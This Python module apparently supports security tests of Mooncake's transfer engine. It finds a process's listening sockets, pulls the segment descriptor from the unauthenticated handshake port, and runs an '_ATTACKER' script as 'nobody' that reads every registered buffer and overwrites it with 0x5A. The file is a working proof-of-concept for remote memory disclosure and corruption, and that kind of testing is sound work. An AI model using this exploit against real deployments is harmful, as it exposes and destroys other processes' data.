"""What a stranger can learn from, and do to, a process running Mooncake's transfer engine.

``listening(pid)``: the TCP sockets a process listens on (from ``/proc``, as ``ss -ltnp`` shows
them). ``segment_descriptor(port)``: what the engine's handshake port answers an unauthenticated
metadata request (Mooncake's P2P handshake: an 8-byte little-endian length, a type byte, JSON):
the process's segment, with the address and length of every buffer registered with the engine.
``attack(port)``: a transfer-engine client of its own, running as ``nobody`` (it drops to that
user once its interpreter and Mooncake are loaded, before it opens a socket), that reads every
registered buffer of that segment and overwrites it with ``SCRIBBLE``.
"""

from __future__ import annotations

import ipaddress
import json
import os
import socket
import struct
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

METADATA = 1  # HandShakeRequestType::Metadata (Mooncake transfer-engine include/common.h)
SCRIBBLE = 0x5A


@dataclass(frozen=True)
class Listener:
    address: str  # "0.0.0.0", "::", "127.0.0.1", ...
    port: int

    @property
    def wildcard(self) -> bool:
        return ipaddress.ip_address(self.address).is_unspecified


def listening(pid: int, network: str | None = None) -> list[Listener]:
    """The TCP sockets process ``pid`` listens on (IPv4 and IPv6), in its own network or in
    the pool network ``network`` (where a pool client's threads open theirs)."""
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:  # closed meanwhile
            continue
        if target.startswith("socket:["):
            inodes.add(target[len("socket:[") : -1])
    out = []
    for table in ("tcp", "tcp6"):
        for line in _table(pid, table, network).splitlines()[1:]:
            fields = line.split()
            if fields[3] != "0A" or fields[9] not in inodes:  # 0A: LISTEN
                continue
            hex_address, hex_port = fields[1].split(":")
            raw = bytes.fromhex(hex_address)
            # /proc prints each 32-bit word of the address in host (little-endian) order.
            packed = b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4))
            out.append(Listener(str(ipaddress.ip_address(packed)), int(hex_port, 16)))
    return out


def _table(pid: int, table: str, network: str | None) -> str:
    if network is None:
        return Path(f"/proc/{pid}/net/{table}").read_text()
    from kvstrata.pool import network as netns

    return netns.run_in(network, Path(f"/proc/thread-self/net/{table}").read_text)


def segment_descriptor(port: int, host: str = "127.0.0.1", timeout_s: float = 5.0,
                       network: str | None = None) -> dict | None:
    """The segment descriptor the handshake port ``port`` gives anyone who asks (in the pool
    network ``network``, where given); None when the port does not answer as a handshake port."""
    if network is not None:
        from kvstrata.pool import network as netns

        return netns.run_in(network, segment_descriptor, port, host, timeout_s)
    body = b"{}"
    try:
        with socket.create_connection((host, port), timeout=timeout_s) as conn:
            conn.sendall(struct.pack("<QB", len(body) + 1, METADATA) + body)
            head = _read(conn, 8)
            if len(head) < 8:
                return None
            (length,) = struct.unpack("<Q", head)
            if not 0 < length < 1 << 24:
                return None
            reply = _read(conn, length)
    except OSError:
        return None
    if len(reply) != length or reply[0] != METADATA:
        return None
    try:
        return json.loads(reply[1:])
    except ValueError:
        return None


def _read(conn: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = conn.recv(n - len(data))
        if not chunk:
            break
        data += chunk
    return data


_ATTACKER = r"""
import ctypes, encodings.idna, json, os, pwd, sys  # idna: socket loads it lazily, from under /root
if sys.argv[4]:  # into the pool's network, while root: a hostile client that can reach the pool
    fd = os.open("/run/netns/" + sys.argv[4], os.O_RDONLY)
    assert ctypes.CDLL(None, use_errno=True).setns(fd, 0x40000000) == 0
    os.close(fd)
from mooncake.engine import TransferEngine
sys.path.insert(0, sys.argv[2])
from engine_support import segment_descriptor
# Loaded as root (this host's interpreter lives under /root, 0700); from here on, nobody.
nobody = pwd.getpwnam("nobody")
os.setgroups([])
os.setgid(nobody.pw_gid)
os.setuid(nobody.pw_uid)
assert (os.getuid(), os.geteuid(), os.getgroups()) == (nobody.pw_uid, nobody.pw_uid, [])
port, scribble = int(sys.argv[1]), int(sys.argv[3])
segment = segment_descriptor(port)
engine = TransferEngine()
assert engine.initialize("127.0.0.1", "P2PHANDSHAKE", "tcp", "") == 0
buffers = [(b["addr"], b["length"]) for b in segment["buffers"]]
scratch = engine.allocate_managed_buffer(max(n for _, n in buffers))
out = []
for address, length in buffers:
    read = engine.transfer_sync_read(segment["name"], scratch, address, length)
    engine.write_bytes_to_buffer(scratch, bytes([scribble]) * length, length)
    wrote = engine.transfer_sync_write(segment["name"], scratch, address, length)
    out.append({"addr": address, "length": length, "read": read, "wrote": wrote})
print(json.dumps(out))
"""


def attack(port: int, timeout_s: float = 60.0, network: str | None = None) -> list[dict]:
    """As ``nobody``: open the segment behind handshake port ``port`` with a transfer engine of
    its own, read each registered buffer, then overwrite it with ``SCRIBBLE``. Per buffer: its
    address, length, and the read's and the write's return codes (0: done). ``network``: the
    pool network the port is in, which the attacker enters (as root, before it becomes
    ``nobody``: a hostile process that can reach the pool, as on a pool's shared network)."""
    done = subprocess.run([sys.executable, "-c", _ATTACKER, str(port), str(Path(__file__).parent), str(SCRIBBLE),
                           network or ""],
                          cwd="/", capture_output=True, text=True,
                          timeout=timeout_s, env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": "/"})
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])
